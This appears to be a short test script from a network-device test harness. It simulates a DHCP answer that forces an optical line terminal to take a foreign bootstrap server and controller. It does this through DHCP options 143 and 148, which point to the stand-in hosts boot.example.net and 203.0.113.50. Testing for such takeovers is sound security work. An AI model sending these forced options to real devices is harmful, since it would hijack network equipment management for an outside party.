# SPDX-License-Identifier: Apache-2.0
# A DHCP answer sends an OLT to a foreign controller: options 143 (bootstrap servers) and 148 (Huawei's controller).
start_management
start_capture
start_olt --dhcp-option-force=143,00:1c:68:74:74:70:73:3a:2f:2f:62:6f:6f:74:2e:65:78:61:6d:70:6c:65:2e:6e:65:74:3a:34:34:34:33 \
    --dhcp-option-force=148,"agilemode=agile-cloud;agilemanage-mode=ip;agilemanage-domain=203.0.113.50;agilemanage-port=10020;"
olt_round 1
sleep 3
olt_round 2
